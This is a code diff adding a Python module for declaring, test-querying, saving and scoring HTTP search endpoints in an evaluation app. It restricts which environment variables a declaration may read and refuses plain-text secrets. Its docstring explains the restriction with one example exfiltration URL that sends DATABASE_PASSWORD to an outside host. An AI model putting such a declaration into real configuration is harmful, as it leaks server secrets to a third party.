@@ -1,0 +1,180 @@
+"""Search systems in the app: declare an HTTP endpoint as data, test-query it, save it by name,
+score it (or an uploaded TREC run) against the golden set.
+
+A declared endpoint makes the server send requests where it says, so only admins declare one
+(`Can.DECLARE_SYSTEMS`), and a declaration may read only the environment variables the server's
+operator lists in `LABELER_SYSTEM_ENV` (comma-separated): otherwise a declaration like
+`url = "https://elsewhere/?x=${DATABASE_PASSWORD}"` would send a server secret away. Python
+callables run code, so they are CLI-only (`labeler eval --system pkg.mod:fn`). Saved
+declarations live in the team settings; a literal secret is refused (write `${NAME}`).
+"""
+from __future__ import annotations
+
+import io
+import os
+import re
+import tomllib
+from collections.abc import Mapping
+from dataclasses import dataclass
+from typing import Any
+
+from app.access import Actor, Can
+from labeler import runs
+from labeler.corpus import Corpus
+from labeler.errors import ConfigError, InputError
+from labeler.golden import GoldenSet
+from labeler.progress import Progress
+from labeler.systems import HttpSystem, QueryProbe, RunFileSystem, System, system_from_dict
+from storage import Store
+from storage.records import RunRecord
+
+SYSTEM_ENV = "LABELER_SYSTEM_ENV"
+_ENV_REF = re.compile(r"\$\{([^}]*)\}")
+MAX_RUN_BYTES = 50 << 20  # an uploaded TREC run file
+EXAMPLE = '''name = "labeler-serve"
+url = "http://127.0.0.1:8000/search"
+method = "POST"
+timeout = 10
+retries = 3
+concurrency = 4
+
+[body]
+query = "{query}"
+k = "{k}"
+
+[response]
+hits = "hits"
+id = "doc_id"
+score = "score"
+'''
+
+
+def allowed_env() -> set[str]:
+    """The environment variables a declared endpoint may read (LABELER_SYSTEM_ENV)."""
+    return {n.strip() for n in os.environ.get(SYSTEM_ENV, "").split(",") if n.strip()}
+
+
+def parse_declaration(text: str) -> dict[str, Any]:
+    """An endpoint declaration typed in the app (TOML) as a checked dict: kind http, env references
+    only to allowed variables, no literal secret."""
+    try:
+        data = tomllib.loads(text)
+    except tomllib.TOMLDecodeError as exc:
+        raise ConfigError(f"the declaration is not valid TOML: {exc}", hint="see the example; https://toml.io.") from None
+    if data.get("kind", "http") != "http":
+        raise InputError("the app declares HTTP endpoints only",
+                         hint="score a Python callable with `labeler eval --system pkg.mod:fn`, or upload a run file.")
+    data["kind"] = "http"
+    spec = HttpSystem(data).spec  # validates every field (one line naming it)
+    refs = set(_ENV_REF.findall(data.get("url", ""))) | {r for v in (data.get("headers") or {}).values()
+                                                          for r in _ENV_REF.findall(str(v))}
+    if refused := sorted(refs - allowed_env()):
+        raise InputError(f"the declaration reads environment variable(s) {', '.join(refused)}, which the server does "
+                         "not offer to declared systems",
+                         hint=f"the server's operator lists the variables a system may read in {SYSTEM_ENV} "
+                              f"(now: {', '.join(sorted(allowed_env())) or 'none'}).")
+    if secrets := spec.literal_secrets():
+        raise InputError(f"the declaration holds a secret in plain text ({', '.join(secrets)})",
+                         hint="put it in an environment variable and write ${NAME} (listed in "
+                              f"{SYSTEM_ENV}); nothing secret is stored or shown.")
+    return data
+
+
+def saved_systems(store: Store) -> dict[str, dict[str, Any]]:
+    """Saved systems by name: {"declaration": the checked dict, "text": the TOML as typed}."""
+    return dict(store.accounts.settings().get("systems") or {})
+
+
+def save_system(store: Store, actor: Actor, text: str) -> str:
+    """Check and save a declaration under its name (replacing one of that name); the name."""
+    actor.require(Can.DECLARE_SYSTEMS)
+    data = parse_declaration(text)
+    systems = saved_systems(store)
+    systems[data["name"]] = {"declaration": data, "text": text}
+    store.accounts.set_setting("systems", systems, by=actor.name)
+    return data["name"]
+
+
+def delete_system(store: Store, actor: Actor, name: str) -> bool:
+    """Forget a saved system; False if there was none."""
+    actor.require(Can.DECLARE_SYSTEMS)
+    systems = saved_systems(store)
+    if systems.pop(name, None) is None:
+        return False
+    store.accounts.set_setting("systems", systems, by=actor.name)
+    return True
+
+
+def test_query(actor: Actor, text: str, question: str, k: int = 10) -> QueryProbe:
+    """Send one question to a declaration as typed (not saved): the raw answer and the mapped hits."""
+    actor.require(Can.DECLARE_SYSTEMS)
+    if not question.strip():
+        raise InputError("the test question is empty", hint="type a question to send.")
+    with HttpSystem(parse_declaration(text)) as system:
+        return system.test_query(question.strip(), k)
+
+
+@dataclass(frozen=True)
+class ProbeView:
+    """A test query, ready to show."""
+
+    status: str
+    hits: list[dict[str, Any]]
+    raw: str
+    error: str
+
+
+def probe_view(probe: QueryProbe, corpus: Corpus) -> ProbeView:
+    """The status line, the mapped hits (with titles from the open corpus) and the raw answer."""
+    hits = [{"rank": i, "doc_id": h.doc_id, "score": h.score,
+             "title": (corpus.get(h.doc_id).title if corpus.get(h.doc_id) else "(not in the open corpus)")}
+            for i, h in enumerate(probe.hits or (), start=1)]
+    status = f"HTTP {probe.status}" if probe.status else "no answer"
+    return ProbeView(f"{status} in {probe.seconds * 1000:.0f} ms · {len(hits)} hits mapped", hits,
+                     (probe.raw_text or "")[:20_000], str(probe.error or ""))
+
+
+def system_for(store: Store, name: str) -> System:
+    """A saved system, ready to search."""
+    saved = saved_systems(store).get(name)
+    if saved is None:
+        raise InputError(f"no saved system named {name!r}", hint="declare it first, or pick another.")
+    return system_from_dict(saved["declaration"], source=f"saved system {name!r}")
+
+
+def uploaded_run(name: str, data: bytes, golden: GoldenSet) -> System:
+    """A TREC run file uploaded in the app, as a system (the same parser as `labeler score`)."""
+    if len(data) > MAX_RUN_BYTES:
+        raise InputError(f"{name}: the run file is over {MAX_RUN_BYTES >> 20} MB", hint="score it with `labeler score`.")
+    try:
+        text = data.decode("utf-8")
+    except UnicodeDecodeError:
+        raise InputError(f"{name}: not UTF-8 text", hint="a TREC run file is text: qid Q0 docid rank score tag.") from None
+    return RunFileSystem(io.StringIO(text), name=name, questions=golden.questions())
+
+
+def run_system(store: Store, actor: Actor, system: System, corpus: Corpus, *, k: int = 100, name: str = "",
+               stale: str = "include", corpus_path: str | None = None,
+               progress: Progress | None = None) -> RunRecord:
+    """Score a system against the golden set and save the run with what made it (its declaration,
+    secrets excluded) and the corpus the judgments were checked against."""
+    actor.require(Can.RUN_EVALUATION)
+    golden = store.export_golden()
+    runs.require_judgments(golden)
+    _, report = runs.evaluate_system(golden, system, k=k, corpus=corpus, stale=stale, progress=progress)
+    described = system.describe()
+    data = report.to_dict()
+    per_query = data.pop("per_query")
+    return store.save_run({"system": described}, summary=data, per_query=per_query,
+                          golden_hash=runs.golden_fingerprint(golden), corpus_fingerprint=corpus.fingerprint,
+                          name=name or str(described.get("name") or system.name), by=actor.name,
+                          corpus_path=corpus_path)
+
+
+def system_line(config: Mapping[str, Any]) -> str:
+    """What made a saved run, for its caption: "endpoint labeler-serve (http://…)" or ""."""
+    described = config.get("system") if isinstance(config, Mapping) else None
+    if not isinstance(described, Mapping):
+        return ""
+    where = described.get("url") or described.get("path") or described.get("target") or ""
+    return f"system {described.get('name', '?')} ({described.get('kind', '?')}{': ' + str(where) if where else ''})"
